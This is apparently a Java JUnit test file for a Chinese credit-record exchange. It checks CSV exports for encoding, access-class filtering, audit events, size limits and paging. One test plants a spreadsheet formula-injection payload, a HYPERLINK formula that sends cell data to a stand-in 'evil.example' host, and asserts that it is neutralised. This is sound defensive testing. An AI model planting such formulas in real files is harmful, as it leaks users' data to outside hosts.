package credit.exchange.routes.query;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import credit.exchange.routes.audit.AuditWriter;
import credit.exchange.routes.support.CleanCreditStore;
import credit.exchange.routes.support.CsvTable;
import credit.exchange.routes.support.Seeds;
import credit.exchange.routes.support.TestNode;
import credit.exchange.security.CodedException;
import credit.exchange.security.ErrorCode;
import credit.exchange.security.access.Caller;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/**
 * A record query exported as CSV, read back as a spreadsheet reads it (the BOM, UTF-8, RFC 4180):
 * Chinese headers and values intact, planted formulas neutralised, exactly the rows the caller may
 * read (the JSON's access decisions and field filter), an audit event per export; and the JSON
 * pages' totals.
 */
@ExtendWith(CleanCreditStore.class)
class RecordExportTest {

    private static final String COMPANY = "杭州千岛网络有限公司";
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")";

    private final TestNode node;
    private final AuditWriter audit;
    private final RecordExport exports;

    @TempDir
    Path dir;

    RecordExportTest(TestNode node) {
        this.node = node;
        this.audit = new AuditWriter(node.audit(), 100);
        this.exports = new RecordExport(node.queries(), node.catalogue(), audit, Clock.systemUTC());
    }

    @AfterEach
    void closeAudit() {
        audit.close();
    }

    @Test
    void anExportReadAsASpreadsheetWould_hasChineseHeadersAndValues_andEveryPlantedFormulaNeutralised() throws IOException {
        CsvTable licences = Seeds.companyRows(Seeds.SEED, "licensing", 2, dir);
        String uscc = licences.get(1, "XK_XDR_SHXYM");
        licences.set(1, "XK_XDR_MC", COMPANY).set(2, "XK_XDR_MC", COMPANY).set(2, "XK_XDR_SHXYM", uscc)
                .set(1, "XK_NR", HYPERLINK).set(1, "XK_XKBH", "+1").set(1, "XK_XKZS", "-2").set(1, "BZ", "@SUM(A1:A9)")
                .set(2, "XK_NR", "准予公共场所卫生许可");
        assertEquals(2, node.importFile(licences.write(dir.resolve("licences.csv")), "licensing").stored());

        RecordExport.Exported file = exports.export(Caller.operator(), RecordQuery.uscc(uscc, LocalQueryService.Basis.NONE));

        assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(file.csv(), 3), "UTF-8's BOM first");
        assertTrue(new String(file.csv(), StandardCharsets.UTF_8).contains("\r\n"), "CRLF records");
        assertTrue(file.filename().matches("records-" + uscc + "-\\d{8}-\\d{6}\\.csv"), file.filename());
        assertEquals(2, file.rows());
        List<Map<String, String>> rows = read(file.csv());
        assertEquals(2, rows.size());
        Set<String> header = rows.get(0).keySet();
        assertTrue(header.containsAll(List.of("记录编号", "信用信息类别", "公开类别", "主体类型", "主体名称", "统一社会信用代码", "决定文书号",
                "状态", "内容", "许可编号", "许可证书名称", "备注", "入库时间（UTC+08:00 Asia/Shanghai）")), header.toString());
        assertFalse(header.contains("身份证件号码（已脱敏）"), "no row has it: no column");
        assertFalse(header.contains("来源节点"), "no record came from another node");
        for (Map<String, String> row : rows) {
            assertEquals(COMPANY, row.get("主体名称"));
            assertEquals("行政许可", row.get("信用信息类别"));
            assertEquals("A 公开", row.get("公开类别"));
            assertEquals("法人及非法人组织", row.get("主体类型"));
            assertEquals("有效", row.get("状态"));
            assertEquals(uscc, row.get("统一社会信用代码"));
        }
        Map<String, String> planted = rows.stream().filter(r -> r.get("内容").contains("HYPERLINK")).findFirst().orElseThrow();
        assertEquals("'" + HYPERLINK, planted.get("内容"));
        assertEquals("'+1", planted.get("许可编号"));
        assertEquals("'-2", planted.get("许可证书名称"));
        assertEquals("'@SUM(A1:A9)", planted.get("备注"));
        assertTrue(rows.stream().anyMatch(r -> r.get("内容").equals("准予公共场所卫生许可")));

        assertEquals(List.of("OPERATOR operator U:" + uscc + " WRITTEN CSV of records, uscc " + uscc + ": 2 rows"),
                node.rows("select actor_kind || ' ' || actor || ' ' || subject_key || ' ' || outcome || ' ' || detail as e"
                        + " from audit_event where action = 'export'").stream().map(r -> String.valueOf(r.get("e"))).toList(),
                "the export is an audit event naming the caller, the subject, what and how many");
    }

    @Test
    void theAnonymousPublicsExport_holdsClassAOnly_andADatasetItMayNotRead_isRefusedWithoutAFile() throws IOException {
        String uscc = oneCompanyInEveryClass();

        List<Map<String, String>> anonymous = read(exports.export(Caller.anonymous(),
                RecordQuery.uscc(uscc, LocalQueryService.Basis.NONE)).csv());
        List<Map<String, String>> operator = read(exports.export(Caller.operator(),
                RecordQuery.uscc(uscc, LocalQueryService.Basis.NONE)).csv());

        assertEquals(List.of("A 公开"), anonymous.stream().map(r -> r.get("公开类别")).toList());
        assertEquals(Set.of("A 公开", "B 授权查询", "C 部门共享"), Set.copyOf(operator.stream().map(r -> r.get("公开类别")).toList()));
        assertEquals(ErrorCode.E_TOKEN_MISSING, assertThrows(CodedException.class, () -> exports.export(Caller.anonymous(),
                RecordQuery.uscc(uscc, new LocalQueryService.Basis(null, java.util.Optional.empty(), Set.of("tax"))))).code());
        assertEquals(2, node.number("select count(*) from audit_event where action = 'export'"), "the refused one exported nothing");
    }

    @Test
    void aQueryMatchingMoreThanAnExportHolds_isRefusedE_EXPORT_TOO_LARGE_neverCutShort() {
        String uscc = oneCompanyInEveryClass();

        CodedException refused = assertThrows(CodedException.class, () -> node.queries().all(Caller.operator(),
                RecordQuery.uscc(uscc, LocalQueryService.Basis.NONE), 2));

        assertEquals(ErrorCode.E_EXPORT_TOO_LARGE, refused.code());
        assertTrue(refused.getMessage().contains("narrow the query"), refused.getMessage());
        assertEquals(3, node.queries().all(Caller.operator(), RecordQuery.uscc(uscc, LocalQueryService.Basis.NONE), 3).records().size());
    }

    @Test
    void everyPage_saysHowManyRecordsTheCallerMayReadInAll() {
        String uscc = oneCompanyInEveryClass();

        RecordPage first = node.queries().byUsccWithReceived(Caller.operator(), uscc, LocalQueryService.Basis.NONE, 0, 2);
        RecordPage last = node.queries().byUsccWithReceived(Caller.operator(), uscc, LocalQueryService.Basis.NONE, 1, 2);

        assertEquals(List.of(3L, 3L), List.of(first.total(), last.total()));
        assertEquals(List.of(2, 1), List.of(first.records().size(), last.records().size()));
        assertEquals(1, node.queries().byUscc(Caller.anonymous(), uscc, 0, 2).total(), "what the caller may read, not what there is");
        assertEquals(0, node.queries().byUscc(Caller.operator(), Seeds.identifiers(3).uscc(), 0, 2).total());
        assertEquals(1, node.queries().byNamePrefix(Caller.anonymous(), "三类测试", 0, 50).total());
    }

    private String oneCompanyInEveryClass() {
        CsvTable licence = Seeds.companyRows(Seeds.SEED, "licensing", 1, dir).set(1, "XK_XDR_MC", "三类测试有限公司");
        String uscc = licence.get(1, "XK_XDR_SHXYM");
        node.importFile(licence.write(dir.resolve("licence.csv")), "licensing");
        for (String category : List.of("tax", "social-insurance")) {
            CsvTable entry = Seeds.companyRows(Seeds.SEED + category.length(), "redlist", 1, dir)
                    .set(1, "MD_XDR_MC", "三类测试有限公司").set(1, "MD_XDR_SHXYM", uscc);
            assertEquals(1, node.importFile(entry.write(dir.resolve(category + ".csv")), category).stored(), category);
        }
        return uscc;
    }

    /** As a spreadsheet reads the file: the BOM says UTF-8; the first record names the columns. */
    static List<Map<String, String>> read(byte[] csv) throws IOException {
        String text = new String(csv, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("\uFEFF"), "the BOM");
        List<Map<String, String>> rows = new ArrayList<>();
        try (var parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(text.substring(1)))) {
            for (CSVRecord record : parser) {
                rows.add(new LinkedHashMap<>(record.toMap()));
            }
        }
        return rows;
    }
}
